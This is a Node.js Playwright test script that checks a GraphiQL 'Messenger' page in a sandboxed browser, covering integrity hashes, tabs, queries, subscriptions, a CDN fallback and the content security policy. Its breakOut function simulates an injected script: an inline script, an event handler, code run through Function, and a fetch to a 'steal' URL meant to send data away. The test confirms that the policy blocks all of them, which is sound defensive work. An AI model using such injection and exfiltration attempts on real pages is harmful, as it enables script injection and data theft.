// Drives the server's GraphiQL page in a real browser that can reach nothing but the server.
// The page's CDN files come from node_modules; the browser checks them against the page's integrity hashes.
// Usage: node graphiql.mjs http://localhost:8080 screenshot.png

import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { chromium } from "playwright-core";

const [url, screenshot] = process.argv.slice(2);
if (!screenshot) throw new Error("usage: node graphiql.mjs URL SCREENSHOT");

const { origin } = new URL(url);
const CDN = "https://unpkg.com";
const TABS = ["CreateTwoUsers", "Send", "WhoIsHere", "Last100", "Last30Days", "Inbox", "MakeChatroom", "Live"];
const CHROMIUM_ARGS = [
  "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
  "--disable-background-networking", "--disable-component-update", "--disable-sync",
];
const CONTENT_TYPES = { js: "text/javascript; charset=utf-8", css: "text/css; charset=utf-8" };

async function readPackageFile(cdnUrl) {
  const [, name, version, path] = new URL(cdnUrl).pathname.match(/^\/([a-z-]+)@([\d.]+)\/(.+)$/);
  const directory = new URL(`node_modules/${name}/`, import.meta.url);
  const installed = JSON.parse(await readFile(new URL("package.json", directory), "utf8")).version;
  assert.equal(version, installed, `the page and package.json pin different versions of ${name}`);
  return readFile(new URL(path, directory));
}

async function answerFromNodeModules(route) {
  const cdnUrl = route.request().url();
  await route.fulfill({
    body: await readPackageFile(cdnUrl),
    contentType: CONTENT_TYPES[cdnUrl.split(".").at(-1)],
    headers: { "access-control-allow-origin": "*" },
  });
}

// Each page has a context of its own, so that no cache or stored tab of one is seen by the other.
async function openPage(browser, answerCdn) {
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  const page = await context.newPage();
  const problems = [];
  page.on("console", (message) => message.type() === "error" && problems.push(`console: ${message.text()}`));
  page.on("pageerror", (error) => problems.push(`uncaught: ${error.message}`));
  await page.exposeFunction("reportViolation", (violation) => problems.push(`against the page's policy: ${violation}`));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sourceFile }) =>
      window.reportViolation(`${effectiveDirective} ${blockedURI} from ${sourceFile}`));
  });
  await context.route("**/*", async (route) => {
    const requested = new URL(route.request().url());
    if (requested.origin === origin) return route.continue();
    if (requested.origin === CDN) return answerCdn(route);
    problems.push(`request to another host: ${requested}`);
    return route.abort();
  });
  await page.goto(origin);
  return { page, problems };
}

async function checkIntegrityAttributes(page) {
  const unchecked = await page.$$eval(
    "script[src], link[rel=stylesheet]",
    (elements) => elements
      .filter((element) => !element.integrity.startsWith("sha384-") || element.crossOrigin !== "anonymous")
      .map((element) => element.outerHTML),
  );
  assert.deepEqual(unchecked, []);
}

// Whatever adds elements or styles while one works with the page.
async function lookAround(page) {
  await page.getByRole("button", { name: "Show Documentation Explorer" }).click();
  await page.getByText("Root Types").waitFor();
  await page.getByRole("button", { name: "Hide Documentation Explorer" }).click();
  await page.getByRole("button", { name: "Show History" }).click();
  await page.getByRole("button", { name: "Hide History" }).click();
  for (const dialog of ["Open short keys dialog", "Open settings dialog"]) {
    await page.getByRole("button", { name: dialog }).click();
    await page.getByRole("dialog").waitFor();
    await page.keyboard.press("Escape");
    await page.getByRole("dialog").waitFor({ state: "detached" });
  }
  await page.getByRole("button", { name: "Prettify query (Shift-Ctrl-P)" }).click();
  const editor = page.getByRole("region", { name: "Query Editor" }).locator(".CodeMirror");
  await editor.click();
  await page.keyboard.press("Control+End");
  await page.keyboard.type(" query Typed { us");
  await page.keyboard.press("Control+Space");
  await page.locator(".CodeMirror-hints").first().waitFor();
  await page.keyboard.press("Escape");
}

// What a script that got into the page would try.
async function breakOut() {
  const script = document.createElement("script");
  script.textContent = "window.ranInline = true";
  document.body.append(script);
  const link = document.createElement("a");
  link.setAttribute("onclick", "window.ranHandler = true");
  link.click();
  // Later, because what a debugger itself runs may evaluate.
  const evaluated = await new Promise((resolve) => setTimeout(() => {
    try {
      resolve(Function("return true")());
    } catch {
      resolve(false);
    }
  }));
  const heard = new Promise((resolve) => {
    document.addEventListener("securitypolicyviolation", (event) => event.effectiveDirective === "connect-src" && resolve());
  });
  const sent = await fetch("https://unpkg.com/steal?what=messages").then(() => true, () => false);
  await heard;
  return [window.ranInline, window.ranHandler, evaluated, sent].some(Boolean);
}

async function checkPolicy(browser) {
  const { page, problems } = await openPage(browser, answerFromNodeModules);
  await page.locator(".graphiql-tab-button").first().waitFor();
  assert.deepEqual(problems, []);
  assert.equal(await page.evaluate(breakOut), false);
  const stopped = (directive) => problems.some((problem) => problem.startsWith(`against the page's policy: ${directive}`));
  for (const directive of ["script-src-elem", "script-src-attr", "connect-src"]) assert.ok(stopped(directive), directive);
}

async function runOperation(page) {
  const answered = page.waitForResponse((response) => response.request().postData()?.includes("CreateTwoUsers"));
  await page.getByRole("button", { name: /^Execute query/ }).click();
  const response = await answered;
  const headers = await response.request().allHeaders();
  assert.equal(headers["accept"], "application/graphql-response+json, application/json");
  assert.equal(headers["content-type"], "application/json");
  assert.equal(response.status(), 200);
  const result = page.locator(".result-window");
  await result.getByText("dora").first().waitFor();
  return result.innerText();
}

// The page took its ids when it was opened, before there was anybody; so it is opened anew.
async function runSubscription(browser) {
  const { page, problems } = await openPage(browser, answerFromNodeModules);
  await page.locator(".graphiql-tab-button", { hasText: "Live" }).click();
  const answered = page.waitForResponse((response) => response.request().postData()?.includes("subscription Live"));
  await page.getByRole("button", { name: /^Execute query/ }).click();
  const response = await answered;
  assert.equal(response.headers()["content-type"], "text/event-stream; charset=utf-8");
  const result = page.locator(".result-window");
  await result.getByText("__typename").first().waitFor();
  assert.doesNotMatch(await result.innerText(), /"errors"/);
  const ended = page.waitForEvent("requestfailed", (request) => request.postData()?.includes("subscription Live"));
  await page.getByRole("button", { name: /^Stop query/ }).click();
  await ended;
  assert.deepEqual(problems, []);
}

async function checkGraphiQL(browser) {
  const { page, problems } = await openPage(browser, answerFromNodeModules);
  try {
    await page.locator(".graphiql-tab-button").first().waitFor();
  } catch (error) {
    throw new Error(`GraphiQL did not appear: ${problems.join("; ") || error.message}`);
  }
  assert.equal(await page.title(), "Messenger");
  assert.deepEqual(await page.locator(".graphiql-tab-button").allInnerTexts(), TABS);
  await checkIntegrityAttributes(page);
  console.log(`ok  GraphiQL shows the tabs ${TABS.join(", ")}`);

  assert.match(await runOperation(page), /"data": \{/);
  console.log("ok  CreateTwoUsers answers in the result pane");

  await runSubscription(browser);
  console.log("ok  Live shows what a subscription answers, until it is stopped");

  await page.screenshot({ path: screenshot });
  await lookAround(page);
  assert.deepEqual(problems, []);
  console.log("ok  no console error, nothing against the page's policy, and no request to another host");

  await checkPolicy(browser);
  console.log("ok  a script that gets into the page neither runs nor sends anything away");
}

async function checkFallback(browser) {
  const { page } = await openPage(browser, (route) => route.abort());
  await page.getByText("could not be loaded from unpkg.com").waitFor();
  await page.getByText(`curl ${origin}/graphql`).waitFor();
  console.log("ok  without the CDN, the page says so and shows a curl command");
}

const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium",
  args: CHROMIUM_ARGS,
});
try {
  await checkGraphiQL(browser);
  await checkFallback(browser);
} finally {
  await browser.close();
}
